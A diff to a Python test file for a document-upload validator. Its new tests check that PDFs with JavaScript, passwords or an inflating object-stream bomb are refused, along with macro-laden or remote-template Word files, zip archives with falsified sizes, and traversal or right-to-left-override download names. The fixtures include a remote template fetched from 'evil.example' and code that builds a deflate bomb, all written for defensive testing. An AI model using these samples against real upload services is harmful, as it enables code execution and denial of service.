@@ -1,13 +1,23 @@
-"""What may be shared: the type by content and name together, the size limit,
-zip bombs, and filenames made safe."""
+"""What may be uploaded, anywhere: the type by content and name together, the
+size limit, zip bombs, macros, active PDF content, and filenames made safe."""
 
 import io
+import re
 import zipfile
+import zlib
 
+import pikepdf
 import pytest
 
-from documents.checks import FileRefused, check_file, display_name
-from tests.factories.documents import JPEG, PDF, PNG, office, upload
+from documents.checks import (
+    PDF_MAX_INFLATED_BYTES,
+    FileRefused,
+    check_file,
+    display_name,
+    download_name,
+    served_type,
+)
+from tests.factories.documents import JPEG, PDF, PNG, office, pdf, upload
 
 EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
@@ -128,3 +138,160 @@ class TestDisplayNames:
         name = display_name("a" * 400 + ".pdf")
         assert len(name) == 150
         assert name.endswith(".pdf")
+
+
+class TestActivePdfContent:
+    """PDFs are parsed (pikepdf), so what is hidden from a search of the bytes
+    is still found. tests/documents/test_hostile_uploads.py has the corpus."""
+
+    def test_a_plain_pdf_that_opens_at_a_page_is_accepted(self):
+        def open_at_first_page(document):
+            first = document.pages[0].obj
+            document.Root.OpenAction = pikepdf.Array([first, pikepdf.Name.Fit])
+
+        checked = check_file(upload("plain.pdf", pdf(open_at_first_page)))
+        assert checked.content_type == "application/pdf"
+
+    def test_a_pdf_with_a_link_to_a_web_page_is_accepted(self):
+        def link(document):
+            document.pages[0].obj.Annots = pikepdf.Array(
+                [
+                    pikepdf.Dictionary(
+                        Type=pikepdf.Name.Annot,
+                        Subtype=pikepdf.Name.Link,
+                        Rect=[0, 0, 10, 10],
+                        A=pikepdf.Dictionary(
+                            S=pikepdf.Name.URI,
+                            URI=pikepdf.String("https://www.gov.uk/"),
+                        ),
+                    )
+                ]
+            )
+
+        assert check_file(upload("links.pdf", pdf(link)))
+
+    def test_a_document_level_script_in_the_names_tree_is_refused(self):
+        def named_script(document):
+            action = pikepdf.Dictionary(
+                S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
+            )
+            document.Root.Names = pikepdf.Dictionary(
+                JavaScript=pikepdf.Dictionary(
+                    Names=pikepdf.Array([pikepdf.String("init"), action])
+                )
+            )
+
+        with pytest.raises(FileRefused, match="a.pdf is a PDF with active content"):
+            check_file(upload("a.pdf", pdf(named_script, object_streams=True)))
+
+    def test_a_pdf_with_a_password_is_refused(self):
+        buffer = io.BytesIO()
+        with pikepdf.open(io.BytesIO(PDF)) as document:
+            document.save(
+                buffer,
+                encryption=pikepdf.Encryption(user="secret", owner="also-secret"),
+            )
+        with pytest.raises(FileRefused, match="is protected with a password"):
+            check_file(upload("locked.pdf", buffer.getvalue()))
+
+    def test_an_object_stream_that_inflates_out_of_all_proportion_is_refused(self):
+        # qpdf inflates object streams to parse them: without the limit this
+        # file of about 120 KB took 120 MB (a 2 MB one, 2 GB and 28 s).
+        assert pikepdf.settings.get_qpdf_limits()["flate_max_memory"] == (
+            PDF_MAX_INFLATED_BYTES
+        )
+        raw = pdf(object_streams=True)
+        match = re.search(rb"<<[^>]*/Type /ObjStm[^>]*>>\s*stream\r?\n", raw)
+        length = int(re.search(rb"/Length (\d+)", match.group(0)).group(1))
+        objects = zlib.decompress(raw[match.end() : match.end() + length])
+        deflate = zlib.compressobj(9)
+        bomb = deflate.compress(objects)
+        for _ in range(PDF_MAX_INFLATED_BYTES // (1024 * 1024) + 20):
+            bomb += deflate.compress(b" " * (1024 * 1024))
+        bomb += deflate.flush()
+        head = match.group(0).replace(b"/Length %d" % length, b"/Length %d" % len(bomb))
+        raw = raw[: match.start()] + head + bomb + raw[match.end() + length :]
+        with pytest.raises(FileRefused, match="is damaged and cannot be opened"):
+            check_file(upload("bomb.pdf", raw))
+
+
+class TestMacrosAndRemoteContent:
+    MACROS = "contains macros, which can run code"
+
+    @pytest.mark.parametrize(
+        ("name", "content"),
+        [
+            ("budget.xlsm", office("xlsx", {"xl/vbaProject.bin": "VBA"})),
+            ("budget.xlsx", office("xlsx", {"xl/vbaProject.bin": "VBA"})),
+            ("letter.docx", office("docx", {"word/activeX/activeX1.xml": "<ax/>"})),
+            ("letter.odt", office("odt", {"Basic/Standard/Module1.xml": "<m/>"})),
+            ("slides.pptm", PDF),
+        ],
+    )
+    def test_macro_enabled_files_are_refused_by_name_or_content(self, name, content):
+        with pytest.raises(FileRefused, match=f"{re.escape(name)} {self.MACROS}"):
+            check_file(upload(name, content))
+
+    def test_a_word_file_that_fetches_its_template_from_the_internet_is_refused(self):
+        # Remote template injection: Word fetches and runs a .dotm when opened.
+        rels = (
+            '<Relationships><Relationship Id="rId1" Type="http://schemas.'
+            "openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+            '" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+            "</Relationships>"
+        )
+        content = office("docx", {"word/_rels/settings.xml.rels": rels})
+        with pytest.raises(FileRefused, match="loads content from the internet"):
+            check_file(upload("letter.docx", content))
+
+    def test_a_word_file_with_links_to_web_pages_is_accepted(self):
+        rels = (
+            '<Relationships><Relationship Id="rId1" Type="http://schemas.'
+            'openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+            'Target="https://www.gov.uk/" TargetMode="External"/></Relationships>'
+        )
+        content = office("docx", {"word/_rels/document.xml.rels": rels})
+        assert check_file(upload("letter.docx", content))
+
+
+class TestArchivesThatLie:
+    def test_a_member_that_unpacks_to_more_than_it_says_is_refused(self):
+        # The headers claim 1 KB, so the size checks pass; reading the member
+        # finds 20 MB whose checksum does not match.
+        real = 20 * 1024 * 1024
+        content = bytearray(office("docx", {"word/media/image1.png": bytes(real)}))
+        claimed = (1024).to_bytes(4, "little")
+        with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
+            member = archive.getinfo("word/media/image1.png")
+        content[member.header_offset + 22 : member.header_offset + 26] = claimed
+        central = content.rfind(b"PK\x01\x02")  # the last member's entry
+        content[central + 24 : central + 28] = claimed
+        with pytest.raises(FileRefused, match="is damaged and cannot be opened"):
+            check_file(upload("letter.docx", bytes(content)))
+
+
+class TestDownloadNames:
+    @pytest.mark.parametrize(
+        ("name", "content_type", "served"),
+        [
+            ("risk.pdf", "application/pdf", "risk.pdf"),
+            ("photo.jpeg", "image/jpeg", "photo.jpeg"),
+            ("Photo.JPG", "image/jpeg", "Photo.JPG"),
+            # Stored before attachments were checked by content.
+            ("update.hta", "application/pdf", "update.pdf"),
+            ("x.html", "application/pdf", "x.pdf"),
+            ("fdp.exe", "application/pdf", "fdp.pdf"),
+            ("notes", "text/plain", "notes.txt"),
+            ("../../etc/passwd", "image/png", "passwd.png"),
+            ("\u202eexe.pdf", "application/pdf", "exe.pdf"),
+            ("old.doc", "application/msword", "old.bin"),
+        ],
+    )
+    def test_the_extension_always_matches_the_type_served(
+        self, name, content_type, served
+    ):
+        assert download_name(name, content_type) == served
+
+    def test_a_type_no_longer_accepted_is_served_as_unknown_bytes(self):
+        assert served_type("application/msword") == "application/octet-stream"
+        assert served_type("application/pdf") == "application/pdf"
